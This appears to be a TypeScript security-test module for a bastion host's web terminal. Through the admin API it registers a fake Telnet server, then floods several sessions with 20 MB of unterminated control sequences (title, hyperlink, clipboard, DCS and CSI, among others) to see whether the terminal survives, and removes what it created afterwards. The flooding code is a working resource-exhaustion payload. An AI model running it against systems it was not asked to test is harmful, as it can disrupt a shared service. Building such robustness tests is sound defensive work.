import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { eventually } from '../../clients/api.ts';
import { openTerminal } from '../../clients/terminal.ts';
import { type Attack, judge, type Target } from '../attack.ts';
import { type Listener, listenFor } from '../listener.ts';

const megabyte = 1024 * 1024;
/** Bytes of each sequence. */
const size = 20 * megabyte;

/** Starts of control sequences that never end, and what a terminal would have to keep of them. */
const endless: Record<string, { start: string; filler: string }> = {
  'a title': { start: '\u001b]0;', filler: 'x' },
  'a link': { start: '\u001b]8;;http://', filler: 'x' },
  'a clipboard': { start: '\u001b]52;c;', filler: 'eA==' },
  'a device control string': { start: '\u001bP', filler: 'q' },
  'an application command': { start: '\u001b_', filler: 'x' },
  'a privacy message': { start: '\u001b^', filler: 'x' },
  parameters: { start: '\u001b[', filler: '1;' },
  'combining characters': { start: 'a', filler: '\u0301' },
};
const names = Object.keys(endless);

/** Writes no faster than the other side reads. */
const write = async (socket: Socket, text: string) => {
  if (!socket.write(text)) await once(socket, 'drain');
};

const flood = async (socket: Socket, name: string) => {
  const { start, filler } = endless[name] ?? { start: '', filler: 'x' };
  const piece = filler.repeat(Math.ceil((64 * 1024) / Buffer.byteLength(filler)));
  await write(socket, start);
  for (let sent = 0; sent < size && !socket.destroyed; sent += Buffer.byteLength(piece))
    await write(socket, piece);
  // Whatever was open is ended; what follows has to appear.
  await write(socket, '\u0018\u001b\\\r\nAFTERWARDS\r\nbox$ ');
};

/** A Telnet machine: asks for name and password, and then prints the sequence that the user asks for. */
const machine = (socket: Socket) => {
  let line = '';
  let answers = 0;
  socket.write('\r\nbox login: ');
  socket.on('data', (data) => {
    line += data.toString('latin1').replace(/\u00ff[\u00fb-\u00fe]./gs, '');
    if (!/[\r\n]/.test(line)) return;
    const said = line.trim();
    line = '';
    answers += 1;
    if (answers === 1) socket.write('\r\nPassword: ');
    else if (answers === 2) socket.write('\r\nLast login: today\r\nbox$ ');
    else void flood(socket, names[Number(said)] ?? '').catch(() => undefined);
  });
};

type Made = { id: string };
const creating = ({ admin }: Target) => {
  const paths: string[] = [];
  return {
    create: async (path: string, body: object): Promise<Made> => {
      const made = await admin.call<Made>('POST', path, body);
      if (made.status !== 201) throw new Error(`${path}: ${made.text}`);
      paths.unshift(`${path}${made.body.id}/`);
      return made.body;
    },
    removeAll: async () => {
      for (const path of paths) await admin.call('DELETE', path);
    },
  };
};

const furnish = async (
  target: Target,
  { create }: ReturnType<typeof creating>,
  { address, port }: Listener,
) => {
  const name = `attack-${randomBytes(4).toString('hex')}`;
  const protocols = [{ name: 'telnet', port: 23, primary: true }];
  const platform = await create('/api/v1/assets/platforms/', {
    ...{ name, category: 'host', type: 'linux', protocols },
  });
  const asset = await create('/api/v1/assets/hosts/', {
    ...{ name, address, platform: platform.id, protocols: [{ name: 'telnet', port }] },
  });
  await create('/api/v1/accounts/accounts/', {
    ...{ name, username: name, asset: asset.id, secret_type: 'password', secret: name },
  });
  const me = await target.admin.call<Made>('GET', '/api/v1/users/profile/');
  await create('/api/v1/perms/asset-permissions/', {
    ...{ name, users: [me.body.id], assets: [asset.id], accounts: ['@ALL'] },
  });
  return { asset: asset.id, account: name };
};

/** Opens a session and asks the machine for a sequence; what went wrong. */
const attempt = async (
  { url, admin }: Target,
  wish: { asset: string; account: string },
  at: number,
): Promise<string[]> => {
  const token = await admin.call<Made>('POST', '/api/v1/authentication/connection-token/', {
    ...{ ...wish, protocol: 'telnet', connect_method: 'web_cli' },
  });
  if (token.status !== 201) throw new Error(`no connection: ${token.text}`);
  let tail = '';
  const sink = (bytes: Uint8Array) => {
    tail = (tail + Buffer.from(bytes).toString('latin1')).slice(-200);
  };
  const terminal = await openTerminal(url, token.body.id, admin.cookies(), { sink });
  await terminal.opened();
  terminal.type(`${at}\n`);
  const whole = async () => tail.includes('AFTERWARDS');
  const isWhole = await eventually('the end', whole, 120).catch(() => false);
  terminal.close();
  return isWhole ? [] : [`what the machine printed after ${names[at]} did not arrive`];
};

/** A machine prints control sequences that never end, in several sessions at once. */
export const sequences: Attack = {
  name: 'sequences',
  run: async (target) => {
    let isReached = false;
    const listener = await listenFor(target.url, (socket) => {
      isReached = true;
      machine(socket);
    });
    const made = creating(target);
    try {
      const wish = await furnish(target, made, listener);
      const faults = await Promise.all(names.map((_name, at) => attempt(target, wish, at)));
      return judge(
        faults.flat(),
        `${names.length} sessions showed what came after ${size / megabyte} MB of a sequence without an end.`,
      );
    } catch (error) {
      if (isReached) throw error;
      return { result: 'not applicable', sentence: `No session reached this machine: ${String(error)}` };
    } finally {
      listener.stop();
      await made.removeAll();
    }
  },
};
